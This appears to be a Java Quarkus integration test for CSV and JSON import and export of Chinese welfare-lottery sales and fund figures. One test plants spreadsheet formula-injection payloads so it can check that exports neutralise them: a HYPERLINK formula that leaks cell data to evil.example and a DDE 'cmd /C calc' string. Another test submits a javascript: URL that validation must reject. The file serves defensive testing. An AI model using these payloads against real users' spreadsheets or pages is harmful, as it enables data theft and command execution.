package cn.fucai.cms.figure;

import static cn.fucai.cms.figure.FigureFixtures.fund;
import static cn.fucai.cms.figure.FigureFixtures.period;
import static cn.fucai.cms.figure.FigureFixtures.sales;
import static cn.fucai.cms.support.TestData.admin;
import static cn.fucai.cms.support.TestData.count;
import static cn.fucai.cms.support.TestData.createPublisher;
import static cn.fucai.cms.support.TestData.json;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.fucai.cms.support.TestData;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** CSV export and import, JSON batches, and exact sums over many small figures. */
@QuarkusTest
class FigureImportExportTest {

    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    @Inject
    AgroalDataSource db;

    @Test
    void csvExportIsUtf8WithBomAndRoundTripsThroughImport() {
        String publisher = createPublisher();
        Map<String, Object> first = fund(publisher, "330300", "used", "743.9", "万元");
        @SuppressWarnings("unchecked")
        Map<String, Object> fundPart = (Map<String, Object>) first.get("fund");
        fundPart.put("purpose", Map.of("code", "student-aid", "label", "助学（福彩暖万家·助圆大学梦）"));
        fundPart.put("beneficiaryCount", 300);
        fundPart.put("amountPerBeneficiary", Map.of("value", "8000", "unit", "元"));
        first.put(
                "source",
                Map.of("url", "https://www.example.org/a?b=1,2", "quote", "资助300名温州困难大学新生各8000元福彩公益金，\"引号\"与逗号,"));
        Map<String, Object> second = fund(publisher, "330302", "raised", "5", "亿元");
        second.put("qualifier", "over");
        second.put("period", period("2019-01-01", "2019-12-30", "YEAR_TO_DATE"));
        List<String> ids = json().body(List.of(first, second))
                .post("/api/v1/fund-figures/batch")
                .then()
                .statusCode(201)
                .body("", hasSize(2))
                .extract()
                .path("id");
        assertEquals(
                2,
                count(db, """
                select count(*) from audit_event where action = 'create' and resource_type = 'fund-figure'
                and resource_id = any(?) and after_state is not null""", (Object) ids.toArray(String[]::new)),
                "each figure of a batch has its own audit event");

        Response export = given().accept("text/csv").get("/api/v1/fund-figures?publisher=" + publisher);
        export.then()
                .statusCode(200)
                .contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("fund-figures.csv"));
        byte[] bytes = export.asByteArray();
        assertArrayEquals(BOM, Arrays.copyOf(bytes, 3), "starts with a UTF-8 byte-order mark");
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(csv.contains("助学（福彩暖万家·助圆大学梦）"), csv);
        assertTrue(csv.contains("\"资助300名温州困难大学新生各8000元福彩公益金，\"\"引号\"\"与逗号,\""), csv);
        assertTrue(
                csv.lines()
                        .skip(1)
                        .anyMatch(line -> line.contains("7439000.00") && line.contains("743.9") && line.contains("万元")),
                csv);

        String target = createPublisher();
        String reimport = csv.replace(publisher, target);
        admin().contentType("text/csv; charset=UTF-8")
                .body(reimport.getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/fund-figures/batch")
                .then()
                .statusCode(201)
                .body("", hasSize(2));
        assertEquals(comparable(publisher), comparable(target));
    }

    @Test
    void badCsvRowsAreNamedByRowAndColumnAndNothingIsWritten() {
        String publisher = createPublisher();
        String header =
                "publisher,regionCode,periodStart,periodEnd,granularity,lotteryType,printedValue,printedUnit,qualifier,sourceUrl";
        String csv = header + "\n"
                + publisher + ",330300,2019-01-01,2019-12-31,YEAR,welfare,20,亿元,over,https://www.example.org/1\n"
                + publisher + ",339999,2019-01-01,2019-12-31,YEAR,welfare,20,千元,over,https://www.example.org/2\n"
                + publisher + ",330300,2019-13-01,2019-12-31,YEAR,lotto,20,亿元,over,https://www.example.org/3\n";
        admin().contentType("text/csv")
                .body(csv.getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body(
                        "violations.field",
                        hasItems(
                                "row 2, regionCode", "row 2, printedUnit", "row 3, periodStart", "row 3, lotteryType"));
        admin().contentType("text/csv")
                .body("publisher,colour\n" + publisher + ",red\n")
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .body("violations[0].field", equalTo("header"))
                .body("violations[0].message", containsString("colour"));
        admin().contentType("text/csv")
                .body(header + "\n")
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .body("violations[0].message", containsString("no data rows"));
        admin().contentType("text/csv")
                .body(header + "\n" + publisher + ",330300\n")
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .body("violations[0].field", equalTo("row 1"));
        assertEquals(0, publisherFigures(publisher));
    }

    /** A quote left open answered with Jackson's words ("through reference chain: java.util.ArrayList[0]"). */
    @Test
    void aCsvThatDoesNotParseNamesTheLineInPlainWordsAndLongValuesAreCut() {
        String publisher = createPublisher();
        admin().contentType("text/csv")
                .body("publisher,regionCode\n\"" + publisher + ",330300\n")
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("violations[0].field", equalTo("body"))
                .body(
                        "violations[0].message",
                        equalTo("is not readable CSV: line 2 opens a quoted value that is never closed"));
        String column = "栏".repeat(100_000);
        String detail = admin().contentType("text/csv")
                .body(("publisher," + column + "\n" + publisher + ",1\n").getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .body("violations[0].field", equalTo("header"))
                .body("violations[0].message", startsWith("unknown column '" + "栏".repeat(40) + "…'; columns are ["))
                .extract()
                .asString();
        assertTrue(detail.length() < 2_000, "the answer quotes 40 characters of the column, not 100,000");
        assertEquals(0, publisherFigures(publisher));
    }

    /**
     * Excel and WPS on a Chinese Windows save CSV as GBK: read as UTF-8 its Chinese would turn into replacement
     * characters that pass every other check (a game category is free text). Sent without a charset it is refused,
     * naming the line; sent as GB18030 it is read as written; an unknown charset is a 415.
     */
    @Test
    void aCsvInGbkIsReadWhenItSaysSoAndRefusedNamingTheLineWhenItDoesNot() {
        String publisher = createPublisher();
        byte[] gbk = ("publisher,regionCode,periodStart,periodEnd,granularity,lotteryType,gameCategory,printedValue,"
                        + "printedUnit,qualifier,sourceUrl\n"
                        + publisher
                        + ",330300,2019-01-01,2019-12-31,YEAR,welfare,即开型,20,亿元,over,https://www.example.org/1\n")
                .getBytes(Charset.forName("GBK"));
        RestAssuredConfig asGiven = RestAssured.config()
                .encoderConfig(
                        EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false));
        for (String path : List.of("/api/v1/sales-figures/batch", "/api/v1/sales-figures/batch/preview")) {
            admin().config(asGiven)
                    .contentType("text/csv")
                    .body(gbk)
                    .post(path)
                    .then()
                    .statusCode(400)
                    .contentType("application/problem+json")
                    .body("violations[0].field", equalTo("body"))
                    .body("violations[0].message", startsWith("line 2 is not UTF-8 text; save the file as CSV UTF-8"));
        }
        admin().contentType("text/csv; charset=x-no-such-charset")
                .body(gbk)
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(415)
                .contentType("application/problem+json")
                .body("detail", equalTo("unknown charset x-no-such-charset; send UTF-8 or GB18030"));
        assertEquals(0, publisherFigures(publisher));

        admin().contentType("text/csv; charset=GB18030")
                .body(gbk)
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(201)
                .body("[0].gameCategory", equalTo("即开型"))
                .body("[0].printed.unit", equalTo("亿元"))
                .body("[0].amount.amount", equalTo("2000000000.00"));
        assertEquals(1, publisherFigures(publisher));
    }

    @Test
    void csvRowsPassTheSameValidationAsJsonNamingTheFilesColumnsAndNothingIsWritten() {
        String publisher = createPublisher();
        String header =
                "publisher,regionCode,periodStart,periodEnd,granularity,periodLabel,lotteryType,printedValue,printedUnit,"
                        + "qualifier,sourceUrl,sourceQuote,flow,purposeCode,purposeLabel,projectCount";
        String good = publisher
                + ",330300,2019-01-01,2019-12-31,YEAR,2019,welfare,20,万元,exact,https://www.example.org/1,公告,used,elderly,老年人,3";
        String csv = header + "\n" + good + "\n"
                + good.replace("https://www.example.org/1", "javascript:alert(document.domain)") + "\n"
                + good.replace(",2019,welfare", "," + "年".repeat(3000) + ",welfare") + "\n"
                + good.replace(",elderly,", ",NOT A SLUG <b>,") + "\n"
                + good.replace(",used,elderly,老年人,3", ",used,elderly,老年人,-1") + "\n"
                + good.replace(",20,万元,", ",1e-999999999,万元,") + "\n"
                + good.replace(",20,万元,", ",99999999999999999999,亿元,") + "\n"
                + good.replace("公告", "福彩\u0001公益") + "\n";
        admin().contentType("text/csv")
                .body(csv.getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/fund-figures/batch")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body(
                        "violations.field",
                        hasItems(
                                "row 2, sourceUrl",
                                "row 3, periodLabel",
                                "row 4, purposeCode",
                                "row 5, projectCount",
                                "row 6, printedValue",
                                "row 7, printedValue",
                                "row 8, sourceQuote"))
                .body("violations.field", not(hasItem("row 1")))
                .body("violations.find { it.field == 'row 6, printedValue' }.message", containsString("no exponent"))
                .body(
                        "violations.find { it.field == 'row 7, printedValue' }.message",
                        containsString("less than 10^18 yuan"));
        assertEquals(0, publisherFigures(publisher));

        StringBuilder tooMany = new StringBuilder(header).append('\n');
        for (int i = 0; i <= 10_000; i++) {
            tooMany.append(good).append('\n');
        }
        admin().contentType("text/csv")
                .body(tooMany.toString().getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/fund-figures/batch")
                .then()
                .statusCode(400)
                .body("violations[0].field", equalTo("body"))
                .body("violations[0].message", containsString("10000"));
        assertEquals(0, publisherFigures(publisher));
    }

    @Test
    void csvExportWritesFormulasAsTextKeepsAmountsNumbersAndImportTakesThemBack() {
        String publisher = createPublisher();
        Map<String, Object> figure = fund(publisher, "330300", "used", "743.9", "万元");
        figure.put("gameCategory", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")");
        figure.put("source", Map.of("url", "https://www.example.org/a", "quote", "@SUM(1+1)*cmd|' /C calc'!A0"));
        @SuppressWarnings("unchecked")
        Map<String, Object> fundPart = (Map<String, Object>) figure.get("fund");
        fundPart.put("purpose", Map.of("code", "elderly", "label", "+1+2"));
        json().body(List.of(figure)).post("/api/v1/fund-figures/batch").then().statusCode(201);

        String csv = new String(
                given().accept("text/csv")
                        .get("/api/v1/fund-figures?publisher=" + publisher)
                        .asByteArray(),
                StandardCharsets.UTF_8);
        List<String> cells =
                List.of(csv.lines().skip(1).findFirst().orElseThrow().split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1));
        for (String cell : cells) {
            String unquoted =
                    cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
            assertFalse(!unquoted.isEmpty() && "=+-@\t\r".indexOf(unquoted.charAt(0)) >= 0, "a formula cell: " + cell);
        }
        assertTrue(csv.contains("'=HYPERLINK("), csv);
        assertTrue(csv.contains("'@SUM(1+1)"), csv);
        assertTrue(csv.contains(",\"'+1+2\","), csv);
        assertTrue(csv.contains(",7439000.00,CNY,743.9,万元,"), "amounts stay bare numbers: " + csv);

        String target = createPublisher();
        admin().contentType("text/csv; charset=UTF-8")
                .body(csv.replace(publisher, target).getBytes(StandardCharsets.UTF_8))
                .post("/api/v1/fund-figures/batch")
                .then()
                .statusCode(201)
                .body("[0].gameCategory", equalTo("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"))
                .body("[0].source.quote", equalTo("@SUM(1+1)*cmd|' /C calc'!A0"))
                .body("[0].fund.purpose.label", equalTo("+1+2"));
    }

    @Test
    void decimalsAreBoundedBeforeAnyArithmeticAndJsonNumbersAreRefused() {
        String publisher = createPublisher();
        Map<String, String> bad = Map.of(
                "1e-999999999",
                "no exponent",
                "1E+999999999",
                "no exponent",
                "12345678901234567890123",
                "at most 20",
                "0.12345678901",
                "10 after",
                "99999999999",
                "less than 10^18 yuan");
        bad.forEach((value, message) -> json().body(sales(publisher, "330300", value, "亿元"))
                .post("/api/v1/sales-figures")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .body("violations[0].field", equalTo("amount.value"))
                .body("violations[0].message", containsString(message))
                .body("detail", not(containsString("INSERT"))));
        json().body("{\"publisher\":\"" + publisher
                        + "\",\"regionCode\":\"330300\",\"period\":{\"start\":\"2019-01-01\","
                        + "\"end\":\"2019-12-31\",\"granularity\":\"YEAR\"},\"lotteryType\":\"welfare\","
                        + "\"amount\":{\"value\":1e-999999999,\"unit\":\"万元\"},\"qualifier\":\"exact\","
                        + "\"source\":{\"url\":\"https://www.example.org/1\"}}")
                .post("/api/v1/sales-figures")
                .then()
                .statusCode(400)
                .body("violations[0].field", equalTo("amount.value"))
                .body("violations[0].message", containsString("not a JSON number"));
        assertEquals(0, publisherFigures(publisher));
        // the largest amount the column holds is taken
        json().body(sales(publisher, "330300", "9999999999.9999999999", "亿元"))
                .post("/api/v1/sales-figures")
                .then()
                .statusCode(201)
                .body("amount.amount", equalTo("999999999999999999.99"));
    }

    @Test
    void jsonBatchIsAllOrNothingAndNamesEachBadRow() {
        String publisher = createPublisher();
        List<Map<String, Object>> rows = List.of(
                sales(publisher, "330300", "1", "万元"),
                sales(publisher, "330300", "1", "千元"),
                sales(publisher, "330300", "-1", "万元"));
        json().body(rows)
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .body("violations.field", hasItems("[1].amount.unit", "[2].amount.value"));
        json().body(List.of()).post("/api/v1/sales-figures/batch").then().statusCode(400);
        Map<String, Object> missing = sales(publisher, "330300", "1", "万元");
        missing.remove("qualifier");
        json().body(List.of(sales(publisher, "330300", "1", "万元"), missing))
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(400)
                .body("violations[0].field", containsString("qualifier"));
        assertEquals(0, publisherFigures(publisher));
    }

    @Test
    void tenThousandSmallFiguresSumExactly() {
        String publisher = createPublisher();
        List<Map<String, Object>> rows = new ArrayList<>();
        // 2,500 months from 1900 in each of four districts of Wenzhou: clear of the years other tests use
        List<String> districts = List.of("330302", "330303", "330304", "330305");
        for (int i = 0; i < 10_000; i++) {
            LocalDate month = LocalDate.of(1900, 1, 1).plusMonths(i / 4);
            Map<String, Object> row =
                    sales(publisher, districts.get(i % 4), i % 2 == 0 ? "0.1" : "0.00002", i % 2 == 0 ? "元" : "万元");
            row.put(
                    "period",
                    period(month.toString(), month.plusMonths(1).minusDays(1).toString(), "MONTH"));
            rows.add(row);
        }
        json().body(rows)
                .post("/api/v1/sales-figures/batch")
                .then()
                .statusCode(201)
                .body("", hasSize(10_000));
        // 5,000 × 0.10 元 + 5,000 × 0.00002 万元 (0.20 元) = 1,500.00 元; doubles would drift off it.
        given().get("/api/v1/sales-figures/summary?groupBy=publisher&publisher=" + publisher)
                .then()
                .statusCode(200)
                .body("items", hasSize(1))
                .body("items[0].total.amount", equalTo("1500.00"))
                .body("items[0].figureIds", hasSize(10_000))
                .body("items[0].partial", equalTo(true));
        assertEquals(
                List.of("1500.00"),
                TestData.column(
                        db,
                        "select sum(r.amount)::text from figure f join figure_revision r on"
                                + " r.figure_id = f.id join publisher p on p.id = f.publisher_id where p.slug = ?",
                        publisher));
    }

    private long publisherFigures(String publisher) {
        return count(
                db,
                "select count(*) from figure f join publisher p on p.id = f.publisher_id where p.slug = ?",
                publisher);
    }

    /** Every value column of a publisher's figures, in a stable order, without ids and timestamps. */
    private List<String> comparable(String publisher) {
        return TestData.column(db, """
                select concat_ws('|', r.region_code, r.period_start, r.period_end, r.granularity, r.period_label, r.lottery_type,
                       r.game_category, r.amount, r.printed_value, r.printed_unit, r.qualifier, r.source_url, r.source_quote,
                       r.flow, r.purpose_code, r.purpose_label, r.beneficiary_count, r.amount_per_beneficiary)
                from figure f join figure_revision r on r.figure_id = f.id join publisher p on p.id = f.publisher_id
                where p.slug = ? order by 1""", publisher);
    }
}
